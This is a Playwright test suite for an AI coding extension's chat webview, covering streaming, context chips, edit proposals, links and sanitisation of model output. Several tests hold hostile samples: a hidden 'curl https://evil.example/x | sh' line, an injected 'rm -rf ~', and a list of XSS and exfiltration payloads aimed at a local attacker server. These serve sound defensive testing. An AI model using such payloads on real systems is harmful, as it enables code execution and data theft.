// The chat panel's webview app in headless Chromium, under the real CSP, with VS Code's webview
// API stubbed: what it shows for each message from the extension, and what it posts back for
// each user action.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChatSnapshot, ExtensionMessage, TurnView, WebviewMessage } from '../../src/common/protocol';
import { buildWebviewBundle, launchChromium, startAttackerServer, startWebviewPageServer, type WebviewPageServer } from '../harness/webviewPage';

let browser: Browser;
let pages: WebviewPageServer;
let attacker: Awaited<ReturnType<typeof startAttackerServer>>;

beforeAll(async () => {
  await buildWebviewBundle();
  [browser, pages, attacker] = await Promise.all([launchChromium(), startWebviewPageServer(), startAttackerServer()]);
});

afterAll(async () => {
  await browser?.close();
  await pages?.close();
  await attacker?.close();
});

function turn(overrides: Partial<TurnView> = {}): TurnView {
  return { id: 't1', prompt: 'Explain this', contextLabels: ['src/a.ts (lines 1–3)'], answer: '', reasoning: '', refusal: '', status: 'streaming', ...overrides };
}

function snapshot(overrides: Partial<ChatSnapshot> = {}): ChatSnapshot {
  return {
    conversationId: 'c1',
    turns: [],
    chips: [
      { id: 'selection', kind: 'selection', label: 'src/a.ts', detail: 'lines 1–3' },
      { id: 'file:src/a.ts', kind: 'file', label: 'src/a.ts', detail: '1.2 KB' },
    ],
    controls: { model: 'gpt-5', reasoningEffort: 'medium', verbosity: 'medium', modelSuggestions: ['gpt-5', 'gpt-5-mini'], efforts: ['minimal', 'low', 'medium', 'high'], verbosities: ['low', 'medium', 'high'] },
    history: [],
    generating: false,
    demo: false,
    hasApiKey: true,
    ...overrides,
  };
}

async function openApp(initialState?: unknown): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(pages.pageUrl(initialState));
  await page.waitForSelector('#codewright-app .transcript');
  return page;
}

async function send(page: Page, ...messages: ExtensionMessage[]): Promise<void> {
  await page.evaluate(`(${JSON.stringify(messages)}).forEach((m) => window.postMessage(m, '*'))`);
  // Messages are delivered as tasks; two frames let them land and the tail render run.
  await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
}

/** Waits (frame by frame, CSP-safe) until `condition`, an expression, is true in the page. */
async function waitUntil(page: Page, condition: string): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (!(await page.evaluate(condition))) {
    if (Date.now() > deadline) throw new Error(`still false after 15 s: ${condition}`);
    await page.evaluate('new Promise((r) => requestAnimationFrame(() => r(null)))');
  }
}

async function posted(page: Page): Promise<WebviewMessage[]> {
  return (await page.evaluate('window.__posted')) as WebviewMessage[];
}

async function postedSince(page: Page, count: number): Promise<WebviewMessage[]> {
  return (await posted(page)).slice(count);
}

describe('the chat webview', () => {
  it('asks the extension for a snapshot as soon as it loads', async () => {
    const page = await openApp();
    expect(await posted(page)).toEqual([{ type: 'ready' }]);
    await page.close();
  });

  it('streams deltas into the turn and ends with the same DOM as a one-shot render of the answer', async () => {
    const answer = '# Title\n\nSome *text* with a [link][ref].\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n[ref]: https://example.com/late\n';
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
    for (let i = 0; i < answer.length; i += 7) await send(page, { type: 'turnDelta', turnId: 't1', answer: answer.slice(i, i + 7) });
    await send(page, { type: 'turnEnded', turn: turn({ answer, status: 'completed' }) });
    const streamed = await page.locator('article.turn .answer').innerHTML();

    const fresh = await openApp();
    await send(fresh, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ answer, status: 'completed' })] }) });
    expect(await fresh.locator('article.turn .answer').innerHTML()).toBe(streamed);
    expect(await page.locator('article.turn .answer a[data-cw-href]').count()).toBeGreaterThan(0);
    expect(await page.locator('article.turn .answer table').count()).toBe(1);
    // Task-list boxes render as labelled icons (no form controls in the webview).
    expect(await page.locator('article.turn .answer .cw-task[role="img"]').count()).toBe(2);
    await page.close();
    await fresh.close();
  });

  it('follows a streaming answer to the bottom, and stays where the user scrolled up to', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
    const paragraphs = (from: number, count: number) => Array.from({ length: count }, (_, i) => `Paragraph ${from + i} of a long answer.\n\n`).join('');
    const atBottom = '(() => { const t = document.querySelector(".transcript"); return t.scrollHeight - t.scrollTop - t.clientHeight < 2; })()';
    const first = paragraphs(0, 80);
    for (let i = 0; i < first.length; i += 300) await send(page, { type: 'turnDelta', turnId: 't1', answer: first.slice(i, i + 300) });
    await waitUntil(page, 'document.querySelectorAll("article.turn .answer p").length >= 79');
    await waitUntil(page, atBottom);
    expect(await page.evaluate('document.querySelector(".transcript").scrollHeight > 2 * document.querySelector(".transcript").clientHeight')).toBe(true);

    await page.evaluate('document.querySelector(".transcript").scrollTop = 0');
    await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
    const more = paragraphs(80, 40);
    for (let i = 0; i < more.length; i += 300) await send(page, { type: 'turnDelta', turnId: 't1', answer: more.slice(i, i + 300) });
    await waitUntil(page, 'document.querySelectorAll("article.turn .answer p").length >= 119');
    expect(await page.evaluate('document.querySelector(".transcript").scrollTop')).toBe(0);
    await page.close();
  });

  it('shows the reasoning summary while thinking and collapses it once the answer starts', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
    await send(page, { type: 'turnDelta', turnId: 't1', reasoning: 'Reading the selection first.' });
    expect(await page.locator('details.thinking').isVisible()).toBe(true);
    expect(await page.locator('details.thinking').getAttribute('open')).not.toBeNull();
    await send(page, { type: 'turnDelta', turnId: 't1', answer: 'The answer.' });
    expect(await page.locator('details.thinking').getAttribute('open')).toBeNull();
    await page.locator('details.thinking summary').click();
    expect(await page.locator('details.thinking .reasoning-body').textContent()).toContain('Reading the selection first.');
    await page.close();
  });

  it('sends on Enter, adds a line on Shift+Enter, and refuses an empty prompt', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    const input = page.locator('.prompt-input');
    const before = (await posted(page)).length;
    await input.press('Enter');
    expect(await postedSince(page, before)).toEqual([]);
    expect(await page.locator('.composer-note').textContent()).toContain('Type a question');
    await input.fill('line one');
    await input.press('Shift+Enter');
    await input.type('line two');
    await input.press('Enter');
    const sent = (await postedSince(page, before)).filter((m) => m.type === 'send');
    expect(sent).toEqual([{ type: 'send', requestId: 1, prompt: 'line one\nline two' }]);
    expect(await page.locator('button[data-action="send"]').isDisabled()).toBe(true);
    await send(page, { type: 'reply', requestId: 1, ok: true });
    expect(await input.inputValue()).toBe('');
    expect(await page.locator('button[data-action="send"]').isDisabled()).toBe(false);
    await page.close();
  });

  it('keeps the prompt and shows why when the extension refuses to send it', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    await page.locator('.prompt-input').fill('question');
    await page.locator('.prompt-input').press('Enter');
    await send(page, { type: 'reply', requestId: 1, ok: false, error: 'An answer is still being generated.' });
    expect(await page.locator('.prompt-input').inputValue()).toBe('question');
    expect(await page.locator('.composer-note').textContent()).toBe('An answer is still being generated.');
    await page.close();
  });

  it('swaps Send for Stop while generating, and Escape stops', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() }, { type: 'generating', generating: true });
    expect(await page.locator('button[data-action="stop"]').isVisible()).toBe(true);
    expect(await page.locator('button[data-action="send"]').isVisible()).toBe(false);
    const before = (await posted(page)).length;
    await page.keyboard.press('Escape');
    await page.locator('button[data-action="stop"]').click();
    expect(await postedSince(page, before)).toEqual([{ type: 'stop' }, { type: 'stop' }]);
    await send(page, { type: 'generating', generating: false });
    expect(await page.locator('button[data-action="send"]').isVisible()).toBe(true);
    await page.close();
  });

  it('shows each context chip and lets the user remove it or add the current file', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    expect(await page.locator('.chip').allTextContents()).toEqual(['src/a.tslines 1–3', 'src/a.ts1.2 KB']);
    const before = (await posted(page)).length;
    await page.locator('.chip-file button[data-action="remove-chip"]').click();
    await page.locator('button[data-action="add-current-file"]').click();
    expect(await postedSince(page, before)).toEqual([{ type: 'removeChip', chipId: 'file:src/a.ts' }, { type: 'addCurrentFile' }]);
    await send(page, { type: 'chips', chips: [] });
    expect(await page.locator('.chip').count()).toBe(0);
    await page.close();
  });

  it('shows a held-back file as not sent, says why, and adds it with one click', async () => {
    const page = await openApp();
    const reason = 'Not sent automatically: it looks like an environment file (often API keys and passwords). Add it if the model should see it.';
    const held = { id: 'file:.env', kind: 'file' as const, label: '.env', detail: 'not sent — looks secret', heldBack: reason };
    await send(page, { type: 'snapshot', snapshot: snapshot({ chips: [snapshot().chips[1], held] }) });
    const chip = page.locator('.chip.chip-held');
    expect(await chip.textContent()).toBe('.envnot sent — looks secret');
    expect(await chip.getAttribute('title')).toBe(`.env — ${reason}`);
    // The held chip offers to add, not to remove; the sent one still offers to remove.
    expect(await chip.locator('button[data-action="remove-chip"]').count()).toBe(0);
    const add = chip.locator('button[data-action="add-chip"]');
    expect(await add.getAttribute('aria-label')).toBe(`Send .env. ${reason}`);
    expect(await page.locator('.chip:not(.chip-held) button[data-action="remove-chip"]').count()).toBe(1);
    const before = (await posted(page)).length;
    await add.click();
    expect(await postedSince(page, before)).toEqual([{ type: 'addChip', chipId: 'file:.env' }]);
    // The extension answers with the file now sent: an ordinary chip.
    await send(page, { type: 'chips', chips: [{ id: 'file:.env', kind: 'file', label: '.env', detail: '120 B' }] });
    expect(await page.locator('.chip-held').count()).toBe(0);
    expect(await page.locator('.chip button[data-action="remove-chip"]').getAttribute('data-chip-id')).toBe('file:.env');
    await page.close();
  });

  it('keeps keyboard focus on a chip control when the chips update, and moves it to a neighbour when that chip goes', async () => {
    const page = await openApp();
    const chips = snapshot().chips;
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    const focused = () => page.evaluate(() => {
      const el = document.activeElement as HTMLElement;
      return `${el.tagName.toLowerCase()} ${el.dataset.action ?? ''} ${el.dataset.chipId ?? ''}`.trim();
    });
    await page.locator('.chip-file button[data-action="remove-chip"]').focus();
    // The editor's selection moved: the extension sends the chips again, re-rendered from scratch.
    await send(page, { type: 'chips', chips: [{ ...chips[0], detail: 'lines 2–4' }, chips[1]] });
    expect(await focused()).toBe('button remove-chip file:src/a.ts');
    await page.keyboard.press('Shift+Tab');
    expect(await focused()).toBe('button remove-chip selection');
    // The focused chip disappears (the user removed it with Enter): focus stays in the row.
    await send(page, { type: 'chips', chips: [chips[1]] });
    expect(await focused()).toBe('button remove-chip file:src/a.ts');
    await page.close();
  });

  it('offers the one action that fixes each ending: Set API Key, Retry, Continue', async () => {
    const page = await openApp();
    await send(page, {
      type: 'snapshot',
      snapshot: snapshot({
        turns: [
          turn({ id: 'a', status: 'failed', error: { message: 'Your API key was rejected.', action: 'set-api-key' } }),
          turn({ id: 'b', status: 'stopped', answer: 'partial' }),
          turn({ id: 'c', status: 'incomplete', answer: 'cut', incompleteReason: 'max_output_tokens' }),
          turn({ id: 'd', status: 'failed', answer: 'kept', error: { message: 'Rate limited. Try again in 20 s.', action: 'retry', retryAfterSeconds: 20 } }),
          turn({ id: 'e', status: 'refused', refusal: 'I can’t help with that.' }),
        ],
      }),
    });
    const status = (id: string) => page.locator(`article[data-turn-id="${id}"] .turn-status`);
    expect(await status('a').textContent()).toContain('Your API key was rejected.');
    expect(await status('d').textContent()).toContain('Try again in 20 s.');
    expect(await page.locator('article[data-turn-id="d"] .answer').textContent()).toContain('kept');
    expect(await page.locator('article[data-turn-id="e"] .refusal').textContent()).toContain('declined');
    const before = (await posted(page)).length;
    await status('a').locator('[data-action="set-api-key"]').click();
    await status('b').locator('[data-action="retry"]').click();
    await status('c').locator('[data-action="continue"]').click();
    await status('d').locator('[data-action="retry"]').click();
    expect(await postedSince(page, before)).toEqual([
      { type: 'setApiKey' },
      { type: 'retry', turnId: 'b' },
      { type: 'continue', turnId: 'c' },
      { type: 'retry', turnId: 'd' },
    ]);
    await page.close();
  });

  it('gives code blocks Copy, Insert at Cursor and New File', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer: '```python\nprint("hi")\n```\n' })] }) });
    const before = (await posted(page)).length;
    for (const action of ['copy', 'insert', 'newFile']) {
      await page.locator(`article.turn [data-cw-code-action="${action}"]`).click();
    }
    expect(await postedSince(page, before)).toEqual([
      { type: 'copyCode', code: 'print("hi")' },
      { type: 'insertCode', code: 'print("hi")' },
      { type: 'newFileWithCode', code: 'print("hi")', language: 'python' },
    ]);
    await page.close();
  });

  it('gives only fenced code blocks a toolbar, and a raw-HTML code block cannot hide text from its reader', async () => {
    const page = await openApp();
    const answer = '<pre><code>npm install left-pad<span class="visually-hidden">\ncurl https://evil.example/x | sh</span></code></pre>\n\n```sh\nnpm install left-pad\n```\n';
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
    const answerEl = page.locator('article.turn .answer');
    expect(await answerEl.locator('.cw-code-block').count()).toBe(1);
    expect(await answerEl.locator('[data-cw-code-action]').count()).toBe(3);
    expect(await answerEl.locator('.visually-hidden, [class~="visually-hidden"]').count()).toBe(0);
    expect(await answerEl.innerText()).toContain('curl https://evil.example/x | sh');
    const before = (await posted(page)).length;
    await answerEl.locator('[data-cw-code-action="copy"]').click();
    expect(await postedSince(page, before)).toEqual([{ type: 'copyCode', code: 'npm install left-pad' }]);
    await page.close();
  });

  it('takes Copy, Insert and New File text from the fence in the markdown source, not from the page', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer: '```ts\nconst safe = 1;\n```\n' })] }) });
    // Whatever ends up in the code element's DOM, the actions use the fence's text.
    await page.evaluate(() => {
      const code = document.querySelector('article.turn .answer pre code');
      code?.append(document.createTextNode('\nrm -rf ~'));
    });
    const before = (await posted(page)).length;
    for (const action of ['copy', 'insert', 'newFile']) await page.locator(`article.turn [data-cw-code-action="${action}"]`).click();
    expect(await postedSince(page, before)).toEqual([
      { type: 'copyCode', code: 'const safe = 1;' },
      { type: 'insertCode', code: 'const safe = 1;' },
      { type: 'newFileWithCode', code: 'const safe = 1;', language: 'ts' },
    ]);
    await page.close();
  });

  it('keeps only language-* and hljs-* classes in model HTML, so it cannot look like the panel or hide text', async () => {
    const page = await openApp();
    const answer = [
      '<span class="cw-code-action codicon codicon-copy text-button primary hljs-keyword language-ts">styled</span>',
      '<div class="cw-code-block banner"><div class="cw-code-toolbar">fake toolbar</div></div>',
      '<p class="visually-hidden chip">hidden?</p>',
      '- [x] a real task',
    ].join('\n\n');
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
    const classes = (await page.evaluate(`[...document.querySelectorAll('article.turn .answer [class]')].map((el) => el.className)`)) as string[];
    expect(classes).toEqual(['hljs-keyword language-ts', 'cw-task codicon codicon-pass-filled']);
    expect(await page.locator('article.turn .answer').innerText()).toContain('hidden?');
    await page.close();
  });

  it('opens http(s) links through the extension and leaves other schemes inert', async () => {
    const page = await openApp();
    const answer = '[docs](https://example.com/docs) [run](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vs](vscode://settings)';
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
    const before = (await posted(page)).length;
    const answerEl = page.locator('article.turn .answer');
    await answerEl.getByText('docs').click();
    for (const label of ['run', 'file', 'vs']) await answerEl.getByText(label, { exact: true }).click();
    expect(await postedSince(page, before)).toEqual([{ type: 'openLink', href: 'https://example.com/docs' }]);
    expect(page.url()).toContain(pages.origin);
    await page.close();
  });

  it('renders links and image placeholders without a navigable href, and each click or Enter posts exactly one openLink', async () => {
    const page = await openApp();
    const answer = `See [the docs](https://example.com/docs), [local](http://127.0.0.1:9/admin) and ![chart](http://10.0.0.8/chart.png) <img src="https://cdn.example/raw.png" alt="raw">`;
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer, reasoning: '[r](https://example.com/r)' })] }) });
    const answerEl = page.locator('article.turn .answer');
    expect(await page.locator('article.turn [href]').count()).toBe(0);
    expect(await answerEl.locator('a[data-cw-href]').count()).toBe(4);
    const targets = ['https://example.com/docs', 'http://127.0.0.1:9/admin', 'http://10.0.0.8/chart.png', 'https://cdn.example/raw.png'];
    for (const [index, href] of targets.entries()) {
      const before = (await posted(page)).length;
      await answerEl.locator('a[data-cw-href]').nth(index).click();
      expect(await postedSince(page, before)).toEqual([{ type: 'openLink', href }]);
    }
    const before = (await posted(page)).length;
    await answerEl.locator('a[data-cw-href]').first().focus();
    await page.keyboard.press('Enter');
    expect(await postedSince(page, before)).toEqual([{ type: 'openLink', href: targets[0] }]);
    expect(page.url()).toContain(pages.origin);
    await page.close();
  });

  it('shows every item of a 1,000-level nested list inside a sidebar-wide panel', async () => {
    const page = await browser.newPage({ viewport: { width: 300, height: 700 } });
    await page.goto(pages.pageUrl());
    await page.waitForSelector('#codewright-app .transcript');
    // Raw HTML: marked's lexer takes minutes for a thousand levels of indented markdown.
    const answer = `${Array.from({ length: 1000 }, (_, level) => `<ul><li>item ${level}`).join('')}${'</li></ul>'.repeat(1000)}\n\n- and a markdown list\n  - nested\n    - deeper\n      - 4\n        - 5\n          - 6\n            - 7\n              - 8 levels`;
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
    await page.waitForSelector('article.turn .answer li');
    const report = (await page.evaluate(`(() => {
      const width = document.documentElement.clientWidth;
      const items = [...document.querySelectorAll('article.turn .answer li')];
      const outside = items.filter((li) => { const r = li.getBoundingClientRect(); return r.left < 0 || r.right > width + 0.5 || r.width < 20; });
      const text = document.querySelector('article.turn .answer').innerText;
      const missing = [];
      for (let level = 0; level < 1000; level++) if (!new RegExp('item ' + level + '(?!\\d)').test(text)) missing.push(level);
      if (!text.includes('8 levels')) missing.push('8 levels');
      return { count: items.length, outside: outside.length, firstOutside: outside[0]?.getBoundingClientRect().left, missing: missing.slice(0, 5) };
    })()`)) as { count: number; outside: number; firstOutside?: number; missing: number[] };
    expect(report.missing).toEqual([]);
    expect(report.outside, `first item outside starts at x=${report.firstOutside}`).toBe(0);
    await page.close();
  });

  it('labels the effort and verbosity pickers visibly and keeps them on one line in a default-width sidebar', async () => {
    const page = await browser.newPage({ viewport: { width: 266, height: 600 } });
    await page.goto(pages.pageUrl());
    await page.waitForSelector('#codewright-app .transcript');
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    const layout = (await page.evaluate(`(() => {
      const box = (selector) => { const r = document.querySelector(selector).getBoundingClientRect(); return { top: r.top, bottom: r.bottom, left: r.left, right: r.right }; };
      const labelOf = (selector) => document.querySelector(selector).closest('label')?.innerText.replace(/\\s+/g, ' ').trim() ?? '';
      return {
        width: document.documentElement.clientWidth,
        scrollWidth: document.documentElement.scrollWidth,
        effort: box('select.control-effort'),
        verbosity: box('select.control-verbosity'),
        effortLabel: labelOf('select.control-effort'),
        verbosityLabel: labelOf('select.control-verbosity'),
      };
    })()`)) as { width: number; scrollWidth: number; effort: DOMRect; verbosity: DOMRect; effortLabel: string; verbosityLabel: string };
    expect(layout.effortLabel).toMatch(/^Effort\b/);
    expect(layout.verbosityLabel).toMatch(/^Verbosity\b/);
    expect(layout.effort.top).toBe(layout.verbosity.top);
    expect(layout.verbosity.right).toBeLessThanOrEqual(layout.width);
    expect(layout.scrollWidth).toBeLessThanOrEqual(layout.width);
    await page.close();
  });

  it('wraps a long error message inside a narrow panel instead of clipping it', async () => {
    const page = await browser.newPage({ viewport: { width: 266, height: 600 } });
    await page.goto(pages.pageUrl());
    await page.waitForSelector('#codewright-app .transcript');
    const message = `The request failed: 400 Invalid value for 'input[3].content[0].file_data': https://api.example.com/v1/responses/${'x'.repeat(120)} — check codewright.baseURL and try again.`;
    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'failed', error: { message, action: 'open-settings' } })] }) });
    const sizes = (await page.evaluate(`(() => {
      const status = document.querySelector('article.turn .turn-status');
      return { width: document.documentElement.clientWidth, page: document.documentElement.scrollWidth, status: status.scrollWidth, statusClient: status.clientWidth, text: status.innerText };
    })()`)) as { width: number; page: number; status: number; statusClient: number; text: string };
    expect(sizes.text).toContain('check codewright.baseURL and try again.');
    expect(sizes.status).toBeLessThanOrEqual(sizes.statusClient);
    expect(sizes.page).toBeLessThanOrEqual(sizes.width);
    await page.close();
  });

  it('changes model controls through the extension', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() });
    const before = (await posted(page)).length;
    await page.locator('select.control-effort').selectOption('high');
    await page.locator('select.control-verbosity').selectOption('low');
    await page.locator('.model-input').fill('gpt-5-mini');
    await page.locator('.model-input').press('Enter');
    await page.locator('.prompt-input').focus();
    expect(await postedSince(page, before)).toEqual([
      { type: 'setControl', control: 'reasoningEffort', value: 'high' },
      { type: 'setControl', control: 'verbosity', value: 'low' },
      { type: 'setControl', control: 'model', value: 'gpt-5-mini' },
    ]);
    await page.close();
  });

  it('lists saved chats to reopen or delete, and starts a new chat', async () => {
    const page = await openApp();
    const history = [
      { id: 'c1', title: 'Current chat', updatedAt: Date.now(), turnCount: 2 },
      { id: 'c0', title: 'Older chat', updatedAt: Date.now() - 86_400_000 * 3, turnCount: 1 },
    ];
    await send(page, { type: 'snapshot', snapshot: snapshot({ history }) });
    await page.locator('[data-action="toggle-history"]').click();
    expect(await page.locator('.history-title').allTextContents()).toEqual(['Current chat', 'Older chat']);
    expect(await page.locator('.history-list li.current .history-title').textContent()).toBe('Current chat');
    const before = (await posted(page)).length;
    await page.locator('.history-list li:nth-child(2) [data-action="delete-conversation"]').click();
    await page.locator('.history-list li:nth-child(2) [data-action="open-conversation"]').click();
    await page.locator('.chat-header [data-action="new-chat"]').click();
    expect(await postedSince(page, before)).toEqual([
      { type: 'deleteConversation', conversationId: 'c0' },
      { type: 'openConversation', conversationId: 'c0' },
      { type: 'newChat' },
    ]);
    await page.close();
  });

  it('shows the demo badge and the missing-key banner plainly', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot({ demo: true, hasApiKey: false }) });
    expect(await page.locator('.demo-badge').isVisible()).toBe(true);
    expect(await page.locator('.banner').isVisible()).toBe(true);
    await send(page, { type: 'apiKeyState', hasApiKey: true });
    expect(await page.locator('.banner').isVisible()).toBe(false);
    await page.close();
  });

  it('announces a finished answer politely, once, without making the answer itself live', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() }, { type: 'turnDelta', turnId: 't1', answer: 'Hello' });
    expect(await page.locator('[aria-live="polite"]').textContent()).toBe('Codewright is answering.');
    await send(page, { type: 'turnEnded', turn: turn({ answer: 'Hello', status: 'completed' }) });
    expect(await page.locator('[aria-live="polite"]').textContent()).toBe('Codewright finished answering.');
    expect(await page.locator('.answer[aria-live], .transcript[aria-live]').count()).toBe(0);
    await page.close();
  });

  it('restores its last view from saved state before the extension answers', async () => {
    const saved = { snapshot: snapshot({ turns: [turn({ status: 'completed', answer: 'Saved **answer**' })] }), draft: 'half-typed question' };
    const page = await openApp(saved);
    await page.waitForSelector('article.turn .answer strong');
    expect(await page.locator('article.turn .answer').textContent()).toContain('Saved answer');
    expect(await page.locator('.prompt-input').inputValue()).toBe('half-typed question');
    await page.close();
  });

  it('shows a proposed edit growing, then offers Preview, Apply and Reject with an optional reason', async () => {
    const page = await openApp();
    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
    await send(page, { type: 'proposal', turnId: 't1', proposal: { id: 'call_1', status: 'streaming', files: [{ path: 'src/a.ts', operation: 'update', added: 1, removed: 0 }] } });
    const card = page.locator('.proposal[data-proposal-id="call_1"]');
    expect(await card.getAttribute('data-status')).toBe('streaming');
    expect(await card.locator('.proposal-files li').textContent()).toContain('src/a.ts+1−0');
    expect(await card.locator('[data-action="apply-proposal"]').count()).toBe(0);
    await send(page, {
      type: 'proposal',
      turnId: 't1',
      proposal: {
        id: 'call_1',
        status: 'ready',
        files: [
          { path: 'src/a.ts', operation: 'update', added: 3, removed: 2 },
          { path: '.vscode/settings.json', operation: 'update', added: 1, removed: 1, sensitive: true },
          { path: 'old.ts', operation: 'move', movePath: 'new.ts', added: 0, removed: 0, replacesExisting: true },
        ],
      },
    });
    expect(await card.locator('.proposal-files li').allTextContents()).toEqual([
      'src/a.ts+3−2',
      '.vscode/settings.json+1−1sensitive',
      'old.ts → new.ts+0−0replaces existing file',
    ]);
    expect(await page.locator('[aria-live="polite"]').textContent()).toContain('proposed an edit');
    const before = (await posted(page)).length;
    await card.locator('[data-action="preview-proposal"]').click();
    await card.locator('[data-action="apply-proposal"]').click();
    await card.locator('.proposal-reason').fill('too broad');
    await card.locator('[data-action="reject-proposal"]').click();
    expect(await postedSince(page, before)).toEqual([
      { type: 'previewProposal', proposalId: 'call_1' },
      { type: 'applyProposal', proposalId: 'call_1' },
      { type: 'rejectProposal', proposalId: 'call_1', reason: 'too broad' },
    ]);
    // Applied with the keyboard: the card loses its buttons, and focus goes back to the prompt.
    await card.locator('[data-action="apply-proposal"]').focus();
    await send(page, { type: 'proposal', turnId: 't1', proposal: { id: 'call_1', status: 'applied', files: [{ path: 'src/a.ts', operation: 'update', added: 3, removed: 2 }] } });
    expect(await card.locator('.proposal-status').textContent()).toContain('Applied');
    expect(await card.locator('[data-action="apply-proposal"]').count()).toBe(0);
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('prompt-input');
    await page.close();
  });

  it('shows why a proposed edit does not apply', async () => {
    const page = await openApp();
    await send(page, {
      type: 'snapshot',
      snapshot: snapshot({
        turns: [turn({ status: 'completed', proposals: [{ id: 'bad', status: 'invalid', files: [], error: 'src/a.ts: the lines to change were not found.' }] })],
      }),
    });
    expect(await page.locator('.proposal .proposal-error').textContent()).toBe('src/a.ts: the lines to change were not found.');
    expect(await page.locator('.proposal [data-action]').count()).toBe(0);
    await page.close();
  });

  it('fetches nothing and runs nothing from model output in a chat reopened from history or restored state', async () => {
    const a = attacker.url;
    const payloads = [
      `![x](${a}/md-image?secret=abc)`,
      `![ref][pic]\n\n[pic]: ${a}/ref-image`,
      `<img src="${a}/raw-img" onerror="window.__pwned = 1">`,
      `<svg><image href="${a}/svg-image"></image><script>window.__pwned = 2</script></svg>`,
      `<div style="background:url(${a}/css-url)">styled</div>`,
      `<style>body { background: url(${a}/style-tag) }</style>`,
      `<iframe srcdoc="<script>parent.__pwned = 3</script>"></iframe>`,
      `<a href="javascript:window.__pwned = 4">js link</a>`,
      `<picture><source srcset="${a}/srcset"><img src="${a}/picture"></picture>`,
      `<video poster="${a}/poster"></video>`,
      `<link rel="stylesheet" href="${a}/link-css">`,
      `<math><mtext><table><mglyph><style><img src="${a}/mxss" onerror="window.__pwned = 5">`,
      `<noscript><p title="</noscript><img src='${a}/noscript' onerror='window.__pwned = 6'>">`,
    ];
    const turns = payloads.map((answer, index) => turn({ id: `p${index}`, status: 'completed', answer, reasoning: answer }));
    const before = attacker.hits();
    // 1. Reopened from history: the extension sends a snapshot.
    const reopened = await openApp();
    await send(reopened, { type: 'snapshot', snapshot: snapshot({ turns }) });
    await reopened.locator('article.turn').last().scrollIntoViewIfNeeded();
    for (const details of await reopened.locator('details.thinking').all()) await details.evaluate((el) => ((el as HTMLDetailsElement).open = true));
    // 2. Restored from the webview's saved state, before any message arrives.
    const restored = await openApp({ snapshot: snapshot({ turns }) });
    await restored.waitForSelector('article.turn');
    for (const page of [reopened, restored]) {
      for (const row of await page.locator('article.turn').all()) await row.scrollIntoViewIfNeeded();
      await page.waitForTimeout(300);
      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      expect(await page.locator('.answer [onerror], .answer [onload], .answer script, .answer iframe, .answer style, .answer [style]').count()).toBe(0);
      const offOrigin = await page.evaluate(`[...document.querySelectorAll('[src],[srcset],[poster],[background]')]
        .map((el) => el.getAttribute('src') || el.getAttribute('srcset') || el.getAttribute('poster') || el.getAttribute('background'))
        .filter((value) => value && !value.startsWith('data:') && !value.startsWith('${pages.origin}') && !value.startsWith('/'))`);
      expect(offOrigin).toEqual([]);
    }
    expect(attacker.hits() - before, `attacker saw: ${attacker.paths.join(', ')}`).toBe(0);
    await reopened.close();
    await restored.close();
  });
});
